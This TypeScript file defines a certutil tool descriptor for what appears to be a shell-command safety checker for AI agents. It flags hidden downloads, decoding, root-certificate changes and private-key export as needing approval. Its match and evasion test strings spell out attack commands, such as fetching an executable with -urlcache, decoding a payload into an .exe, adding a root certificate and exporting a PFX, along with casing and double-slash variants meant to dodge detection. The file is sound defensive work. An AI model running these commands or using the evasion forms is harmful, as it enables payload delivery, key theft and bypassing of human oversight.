/** `certutil`: the program of Windows with its long verbs, and the one of NSS with its single letters. */
import { Taint } from "../../shell/types.js";
import { defineTool } from "../../tools/define.js";
import type { Invocation } from "../../tools/types.js";
import { callOf, names, slashed } from "./lib/call.js";

/** Verbs of the Windows program that only look, hash, check or turn a file into text. */
const LOOKS = [
  "/hashfile",
  "/dump",
  "/dumppfx",
  "/asn",
  "/verify",
  "/store",
  "/verifystore",
  "/viewstore",
  "/encode",
  "/encodehex",
  "/cainfo",
  "/capropinfo",
  "/ping",
  "/pingadmin",
  "/template",
  "/templatecas",
  "/catemplates",
  "/csplist",
  "/csptest",
  "/scinfo",
  "/tpminfo",
  "/oid",
  "/error",
  "/schema",
  "/getreg",
  "/tcainfo",
  "/policy",
  "/url",
  "/syncwithwu",
  "/generatesstfromwu",
  "/?",
];

/** Letters of the program of NSS that list, check or print. */
const NSS_LOOKS = /^-[LKVUOHY]$/;

function looks(i: Invocation): boolean {
  const { words, has } = callOf(i.command);
  if (words.length === 0 || i.command.args.some((word) => NSS_LOOKS.test(word.text))) return true;
  return has(...LOOKS) && !has("/f", "/delstore", "/addstore");
}

/** The fetched or decoded file, where one is named behind the source. */
function made(i: Invocation) {
  const { operands, has } = callOf(i.command);
  if (has("/decode", "/decodehex"))
    return { source: operands[0], file: operands[1], taint: Taint.decoded };
  if (has("/urlcache", "/verifyctl")) {
    const at = operands.findIndex((word) => /^(?:https?|ftp):/i.test(word.text));
    if (at >= 0) return { source: operands[at], file: operands[at + 1], taint: Taint.network };
  }
  return undefined;
}

const certutil = defineTool({
  names: names("certutil"),
  about: "looks at certificates and stores of them, hashes and decodes files",
  style: "none",
  nature: "read",
  effects(i, emit) {
    const result = made(i);
    if (result === undefined) {
      const { operands, has } = callOf(i.command);
      if (has("/hashfile", "/dump", "/asn", "/verify") && operands[0] !== undefined)
        emit.file("stat", slashed(operands[0]));
      if (has("/encode", "/encodehex") && operands[0] !== undefined) {
        emit.file("read", slashed(operands[0]));
        if (operands[1] !== undefined) emit.file("create", slashed(operands[1]));
      }
      return;
    }
    const { source, file, taint } = result;
    if (taint === Taint.network && source !== undefined) emit.fetch(source);
    if (file !== undefined)
      emit.file("overwrite", slashed(file), { content: { taints: taint, through: ["certutil"] } });
  },
  rules: [
    {
      id: "hidden-fetch",
      when: (i) => callOf(i.command).has("/urlcache", "/verifyctl", "/decode", "/decodehex"),
      decision: "ask",
      why: "fetches or decodes files by a way that hides them",
      instead: "fetch it openly: `curl -fsSLO https://example.com/a.zip`",
      attack: ["T1105", "T1140"],
      asi: ["ASI05"],
      matches: [
        "certutil -urlcache -split -f http://example.com/a.exe a.exe",
        "certutil -decode a.b64 a.exe",
      ],
      nonMatches: ["certutil -L -d db", "certutil -hashfile a.zip SHA256"],
      evasions: [
        "certutil.exe /URLCache /f https://example.com/a a",
        "CERTUTIL.exe //decode a.txt b",
      ],
    },
    {
      id: "certificates-changed",
      when: (i) => made(i) === undefined && !looks(i),
      decision: "ask",
      why: "changes which certificates are trusted, or takes keys out of a store",
      instead: "look at them: `certutil -store My`",
      attack: ["T1553.004", "T1552.004"],
      asi: ["ASI03"],
      matches: [
        "certutil.exe -addstore Root a.cer",
        "certutil -exportPFX My 01 a.pfx",
        "certutil -A -n x -t C -i x.crt -d db",
        "certutil -D -n x -d db",
      ],
      nonMatches: ["certutil -L -d db", "certutil.exe -store My", "certutil -K -d sql:db"],
    },
  ],
  allowed: [
    "certutil.exe -hashfile 'C:\\Users\\me\\Downloads\\node.msi' SHA256",
    "certutil -hashfile dist/app.zip MD5",
    "certutil -dump certs/server.cer",
    "certutil.exe -verifystore Root",
    "certutil -verify certs/server.cer",
    "certutil -encode logo.png logo.b64",
    "certutil -L -d db",
    "certutil -V -n x -u C -d db",
  ],
});

export const tools = [certutil];
